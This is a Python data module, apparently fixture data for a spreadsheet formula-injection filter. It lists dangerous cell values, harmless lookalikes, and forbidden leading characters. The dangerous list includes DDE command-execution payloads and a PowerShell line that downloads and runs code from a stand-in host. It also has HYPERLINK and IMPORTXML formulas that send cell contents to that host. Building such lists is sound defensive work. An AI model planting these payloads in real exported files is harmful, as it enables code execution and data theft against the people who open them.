"""Texts that a spreadsheet runs, or once ran, as a formula, and texts that only look like it. Holds no test."""

from __future__ import annotations

LIVE = (
    "=1+1", "=1+1+cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget http://example.invalid/p)'!A1", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")", "=IMPORTXML(CONCAT(\"http://example.invalid/?v=\",A1),\"//a\")",
    "=IMPORTFEED(\"http://example.invalid\")", "=IMPORTHTML(\"http://example.invalid\",\"table\",1)", "=IMPORTRANGE(\"x\",\"A1\")",
    "=IMAGE(\"http://example.invalid/x.png\")", "=WEBSERVICE(\"http://example.invalid\")", "=DDE(\"cmd\";\"/C calc\";\"1\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=AND(1,1)", "=A1", "=$A$1", "=\"a\"&\"b\"", "={1,2}", "=-1", "=+1", "==1", "=@A1",
    "+A1", "-A1", "@A1", "+\"a\"", "-(1)", "+(1)", "-1-1", "+1-1", "+34-600-123", "-1e5x", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1",
    " =1+1",
    "\u00a0=1+1", "\ufeff=1+1", "\u200e=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "''=1+1", "\"=1+1", "=1+1\"", ";=1+1", "=1;2",
    "=1\n+1", "=CALL(\"Kernel32\",\"WinExec\",\"JFJ\",\"calc\",0)", "=EXEC(\"calc\")", "=REGISTER.ID(\"x\",\"y\")", "=FORMULA(1)",
    "=1+1" + "x" * 300, "\u202e=1+1", "=\u0000cmd", "%0A=1+1", "=cmd|' /C notepad'!'A1'", "-@SUM(1)", "+@SUM(1)", "=SUM(1)*cmd|x!A", "@=1",
)  # fmt: skip
HARMLESS = (
    "-10",
    "+3,5",
    "-1.234,50",
    "-12 %",
    "+34 600 123 456",
    "+1 (555) 010 2000",
    "'tis",
    "a=1",
    "Acme",
    "€ -5",
    "1-2",
    "x@y.es",
    "_x0041_",
)
RUN_BY = "=+-@\t\r\n＝＋－＠"
"""What a cell may not begin with, unless it is a number or a phone."""
